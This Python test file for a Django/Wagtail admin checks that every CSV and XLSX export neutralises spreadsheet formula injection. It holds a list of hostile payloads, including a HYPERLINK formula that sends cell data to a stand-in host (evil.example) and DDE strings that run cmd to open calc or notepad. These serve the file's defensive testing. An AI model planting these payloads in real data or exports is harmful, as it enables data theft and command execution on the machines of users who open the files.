"""Formula injection: every CSV and XLSX export of the admin (the registers' viewsets, the
project's reports, Wagtail's own reports) writes text that a spreadsheet could read as a formula
so that it is not one (core/csv_export.py, `install_admin_cell_writer`).

The exports are not listed by hand: every URL whose view is Wagtail's `SpreadsheetExportMixin` with
columns to export is found in the URL configuration, and each must show at least one hostile value
neutralised, in CSV and in XLSX. An export added later without hostile data in this fixture fails
the test rather than passing unseen."""

import csv
import datetime
import io

from django.contrib.auth.models import Group
from django.db import models
from django.test import TestCase
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import GroupApprovalTask, Page, Workflow, WorkflowTask

from deputies import factories as deputy_factories
from documents import factories as document_factories
from home.factories import StandardPageFactory
from stations import factories as station_factories
from tests.admin_helpers import body, make_user

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+86 cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
]


def could_be_formula(text):
    # OWASP's list: what Excel, WPS and LibreOffice read as the start of a formula.
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def export_views():
    """(URL name, path) of every admin export: views of `SpreadsheetExportMixin` that have
    columns to export (an `…_results` twin of a listing is the same view and left out)."""
    found = {}

    def walk(resolver, namespace, prefix):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                inner = namespace
                if pattern.namespace:
                    inner = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
                walk(pattern, inner, prefix + str(pattern.pattern))
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
                continue
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if not initkwargs.get("list_export", view_class.list_export):
                continue
            if pattern.name.endswith("results"):
                continue
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            found[name] = "/" + prefix + str(pattern.pattern)

    walk(get_resolver(), "", "")
    return found


def hostile(obj, start):
    """Every free-text field of `obj` set to a payload (cycling through them), in the database."""
    values = {}
    for n, field in enumerate(
        field
        for field in obj._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.URLField)
        and not field.choices
        and not field.primary_key
        and not field.name.startswith(("url_path", "path", "draft_title"))
    ):
        values[field.name] = PAYLOADS[(start + n) % len(PAYLOADS)][: field.max_length]
    type(obj)._default_manager.filter(pk=obj.pk).update(**values)


def csv_cells(response):
    text = body(response).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(body(response)))
    return [cell for row in list(workbook.active.iter_rows())[1:] for cell in row]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


class TestEveryExportNeutralisesFormulas(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.admin = make_user("admin", superuser=True)
        cls.admin.first_name = PAYLOADS[3]
        cls.admin.save()

        # The registers: one of each, every free-text field hostile.
        term = deputy_factories.TermFactory()
        village = deputy_factories.VillageFactory()
        deputy = deputy_factories.DeputyFactory()
        constituency = deputy_factories.ConstituencyFactory(term=term)
        deputy_factories.ElectionFactory(deputy=deputy, constituency=constituency)
        group = deputy_factories.DeputyGroupFactory(term=term, township=village.parent)
        deputy_factories.GroupMembershipFactory(group=group, deputy=deputy)
        member = deputy_factories.CommitteeMemberFactory(deputy=deputy, term=term)
        contact = deputy_factories.VoterContactFactory(deputy=deputy)
        records = [
            term,
            village,
            village.parent,
            deputy,
            constituency,
            group,
            member,
            contact,
            deputy_factories.VoterContactPersonFactory(contact=contact),
            deputy_factories.CheckInFactory(deputy=deputy, group=group),
            deputy_factories.TrainingFactory(),
            deputy_factories.DutyReportFactory(deputy=deputy),
        ]
        station = station_factories.StationFactory(township=village.parent)
        records += [
            station,
            station_factories.ReceptionFactory(station=station),
            station_factories.ActivityFactory(station=station),
        ]
        document = document_factories.NormativeDocumentFactory()
        records += [
            document,
            document.issuing_body,
            document_factories.ReviewFactory(document=document),
            document_factories.ReviewSuggestionFactory(document=document),
        ]
        for n, record in enumerate(records):
            hostile(record, n)
        # A deputy without a check-in this quarter (the overdue report).
        overdue = deputy_factories.DeputyFactory(name=PAYLOADS[0][:30])  # max_length
        deputy_factories.ElectionFactory(deputy=overdue, constituency=constituency)

        # Pages: published (aging pages), locked, in moderation (workflow reports), each with a
        # hostile title; their log entries are the site history.
        home = Page.objects.get(depth=2)
        pages = []
        for payload in PAYLOADS[:3]:
            page = StandardPageFactory(parent=home, title=payload)
            page.save_revision(user=cls.admin, log_action=True).publish(user=cls.admin)
            pages.append(page)
        pages[1].locked, pages[1].locked_by = True, cls.admin
        pages[1].locked_at = timezone.now()
        pages[1].save()
        workflow = Workflow.objects.create(name=PAYLOADS[1])
        task = GroupApprovalTask.objects.create(name=PAYLOADS[2])
        task.groups.add(Group.objects.create(name="审核（测试）"))
        WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
        pages[2].save_revision(user=cls.admin)
        workflow.start(pages[2], cls.admin)

        Redirect.objects.create(old_path="/old", redirect_link=PAYLOADS[0])
        Query.get(PAYLOADS[1]).add_hit()

    def setUp(self):
        self.client.force_login(self.admin)
        # A failed login with a hostile username: the site history's audit entry.
        self.client.post(reverse("wagtailadmin_login"), {"username": PAYLOADS[2], "password": "x"})
        self.client.force_login(self.admin)

    def test_every_export_is_found(self):
        # The exports this test reaches: Wagtail's reports and the project's registers.
        names = set(export_views())
        for expected in (
            "wagtailadmin_reports:site_history",
            "wagtailadmin_reports:aging_pages",
            "wagtailadmin_reports:locked_pages",
            "wagtailadmin_reports:workflow",
            "wagtailadmin_reports:workflow_tasks",
            "stations_checks",
            "wagtailsearchpromotions:search_terms",
            "wagtailredirects:index",
            "wagtailsnippets_documents_reviewsuggestion:list",
            "wagtailsnippets_stations_activity:list",
        ):
            self.assertIn(expected, names)
        self.assertGreaterEqual(len(names), 27, names)

    def test_csv(self):
        for name, path in export_views().items():
            with self.subTest(export=name):
                response = self.client.get(path, {"export": "csv"})
                self.assertEqual(response.status_code, 200)
                cells = csv_cells(response)
                live = [c for c in cells if could_be_formula(c) and not is_number(c)]
                self.assertEqual(live, [], "cells a spreadsheet would run as formulas")
                neutralised = [c for c in cells if c[:1] == "'" and could_be_formula(c[1:])]
                self.assertTrue(neutralised, f"no hostile value reached {name}: {cells}")

    def test_xlsx(self):
        for name, path in export_views().items():
            with self.subTest(export=name):
                response = self.client.get(path, {"export": "xlsx"})
                self.assertEqual(response.status_code, 200)
                hostile_cells = [
                    cell
                    for cell in xlsx_cells(response)
                    if isinstance(cell.value, str) and could_be_formula(cell.value)
                ]
                self.assertTrue(hostile_cells, f"no hostile value reached {name}")
                for cell in hostile_cells:
                    self.assertEqual(cell.data_type, "s", cell.value)
                    self.assertTrue(cell.quotePrefix, f"{cell.value!r} would become a formula")

    def test_other_values_are_left_as_they_are(self):
        # Numbers (negative ones too), dates and ordinary text are not prefixed.
        path = export_views()["wagtailsnippets_deputies_term:list"]
        cells = csv_cells(self.client.get(path, {"export": "csv"}))
        self.assertIn("18", cells)
        self.assertIn(datetime.date(2021, 12, 1).isoformat(), cells)
